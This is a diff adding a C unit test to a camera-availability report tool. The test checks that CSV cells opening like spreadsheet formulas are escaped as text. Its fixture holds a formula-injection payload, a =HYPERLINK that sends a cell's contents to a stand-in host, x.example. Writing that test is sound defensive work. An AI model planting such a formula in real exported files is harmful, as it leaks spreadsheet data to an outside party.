@@ -673,6 +673,52 @@ static void test_csv_and_html_carry_the_figures_in_vietnamese(void **state)
     json_decref(doc);
 }
 
+/* Names are what users typed (cameras.csv, tickets) or what a camera answered: a CSV cell
+ * opening with = + - @ (or a tab, a CR) is a formula to Excel and LibreOffice, which run it
+ * (HYPERLINK sends the sheet's cells away). Such a cell is written with a leading apostrophe,
+ * shown as text; numbers and other texts are left as they are. */
+static void test_csv_cells_that_would_be_formulas_are_text(void **state)
+{
+    struct fixture *fx = *state;
+    static const char *const names[] = {"=HYPERLINK(\"http://x.example/?\"&C3,\"Ngã ba\")",
+                                        "+84 cổng chợ", "-1+1", "@SUM(A1:A9)", "\tTab"};
+    static const char *const want[] = {
+        "\"'=HYPERLINK(\"\"http://x.example/?\"\"&C3,\"\"Ngã ba\"\")\"", "\"'+84 cổng chợ\"",
+        "\"'-1+1\"", "\"'@SUM(A1:A9)\"", "\"'\tTab\""};
+    struct cw_err err = {0};
+    json_t *doc = NULL, *cam;
+    char *csv;
+    size_t i;
+
+    assert_int_equal(doc_availability(&fx->c, T0, T1, T1, &doc, &err), 0);
+    assert_true(json_array_size(json_object_get(doc, "cameras")) >= 4);
+    json_array_foreach(json_object_get(doc, "cameras"), i, cam)
+    {
+        if (i < 4)
+            json_object_set_new(cam, "name", json_string(names[i]));
+    }
+    json_object_set_new(json_array_get(json_object_get(doc, "cameras"), 0), "commune",
+                        json_string(names[4]));
+    csv = render(doc, REPORT_CSV, REPORT_VI);
+    for (i = 0; i < 5; i++)
+        if (strstr(csv, want[i]) == NULL)
+            fail_msg("no %s in\n%s", want[i], csv);
+    assert_null(strstr(csv, "\"=HYPERLINK"));
+    assert_non_null(strstr(csv, "\"100,00\""));                 /* numbers stay numbers */
+    assert_non_null(strstr(csv, "\"Công an huyện Lai Vung\"")); /* other texts as they are */
+    json_decref(doc);
+    doc = NULL;
+    /* a lone "-" is no formula: a retired camera's state cell stays as the other formats say */
+    assert_int_equal(doc_availability(&fx->c, T0, T1, T1, &doc, &err), 0);
+    json_object_set_new(json_array_get(json_object_get(doc, "cameras"), 0), "retired", json_true());
+    free(csv);
+    csv = render(doc, REPORT_CSV, REPORT_VI);
+    assert_non_null(strstr(csv, "\"-\"\r\n"));
+    assert_null(strstr(csv, "\"'-\""));
+    free(csv);
+    json_decref(doc);
+}
+
 /* The line of the CSV (up to its CRLF) whose first fields are rank and id; NULL if none.
  * Points into csv. */
 static const char *csv_row(const char *csv, const char *rank_id)
@@ -867,6 +913,7 @@ int main(void)
         T(test_ticket_texts_with_control_characters_are_refused),
         T(test_province_sums_districts_and_names_a_bad_field),
         T(test_csv_and_html_carry_the_figures_in_vietnamese),
+        T(test_csv_cells_that_would_be_formulas_are_text),
         T(test_backlog_unpriced_cost_is_no_price_not_zero),
         T(test_cost_chart_leaves_out_unpriced_work_and_says_so),
         T(test_backlog_priority_cell_is_one_line),
